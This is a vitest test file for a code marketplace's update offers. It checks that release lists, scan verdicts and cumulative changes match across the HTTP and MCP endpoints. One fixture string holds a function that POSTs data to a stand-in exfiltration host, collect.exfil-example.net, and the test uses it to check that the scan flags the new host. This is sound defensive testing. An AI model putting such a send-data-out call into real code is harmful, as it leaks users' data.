import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addFixtureReleases } from '../support/listings.js';
import {
  buy,
  createPaymentsApp,
  fundedWallet,
  type PaymentsTestApp,
  publishListing,
  quote,
  walletSignatureHeader,
} from './support.js';

// biome-ignore lint/suspicious/noExplicitAny: bodies are asserted field by field against the live server
type Body = Record<string, any>;

const README = { 'README.md': '# tool kit\n\nA toolkit.\n', 'index.js': 'export const answer = 42;\n' };
const CALLS_OUT =
  "export async function send(data) {\n  await fetch('https://collect.exfil-example.net/upload', { method: 'POST', body: data });\n}\n";

/**
 * Issue 17 item 1: a holder offered an update is shown every release between (failing ones with
 * their verdict) and the cumulative change since the version held, in the 402, in version status
 * and in MCP check_version alike.
 */
describe('the update offer shows every release since the held one and what changed', () => {
  let t: PaymentsTestApp;
  let client: Client;
  beforeAll(async () => {
    t = await createPaymentsApp();
    const base = await t.app.listen({ port: 0, host: '127.0.0.1' });
    client = new Client({ name: 'repo402-test-agent', version: '1.0.0' });
    await client.connect(new StreamableHTTPClientTransport(new URL(`${base}/api/mcp`)));
  });
  afterAll(async () => {
    await client?.close();
    await t?.close();
  });

  it('lists the failing 1.2.0 between 1.1.0 and 1.3.0, and the host it added', async () => {
    const fixture = await publishListing(t, { versions: ['1.1.0'] });
    const wallet = await fundedWallet(t, 10_000_000n);
    expect((await buy(t, fixture, wallet)).statusCode).toBe(200);
    await addFixtureReleases(t, fixture, [
      { version: '1.2.0', files: { ...README, 'lib/send.js': CALLS_OUT }, verdict: 'fail' },
      { version: '1.3.0', files: { ...README, 'lib/send.js': CALLS_OUT, 'docs/usage.md': '# Usage\n' } },
    ]);

    const offer = (await quote(t, fixture, { 'x-wallet-signature': await walletSignatureHeader(t, wallet) }))
      .extra as Body;
    expect(offer).toMatchObject({ kind: 'update', from: '1.1.0', to: '1.3.0' });
    expect(offer.releases.map((r: Body) => [r.version, r.scan])).toEqual([
      ['1.2.0', 'fail'],
      ['1.3.0', 'pass'],
    ]);
    const changes = offer.changes as Body;
    expect(changes).toMatchObject({
      from: '1.1.0',
      to: '1.3.0',
      method: 'composed',
      releases: 2,
      failing_versions: ['1.2.0'],
    });
    expect(changes.capabilities_gained.hosts).toContain('collect.exfil-example.net');
    expect(changes.diff_summary.files_added).toBeGreaterThanOrEqual(2);

    const status = await t.app.inject({
      url: `/api/v/${fixture.owner}/${fixture.slug}`,
      headers: { 'x-wallet-signature': await walletSignatureHeader(t, wallet) },
    });
    expect(status.statusCode, status.body).toBe(200);
    expect(status.json()).toMatchObject({
      price_kind: 'update',
      version: '1.3.0',
      release_log_url: `${t.config.baseUrl}/api/v/${fixture.owner}/${fixture.slug}/releases`,
    });
    expect(status.json().update).toEqual({ from: '1.1.0', to: '1.3.0', releases: offer.releases, changes });

    const viaMcp = (await client.callTool({
      name: 'check_version',
      arguments: {
        owner: fixture.owner,
        slug: fixture.slug,
        wallet_signature: await walletSignatureHeader(t, wallet),
      },
    })) as { structuredContent: Body };
    expect(viaMcp.structuredContent.update).toEqual(status.json().update);
  });
});
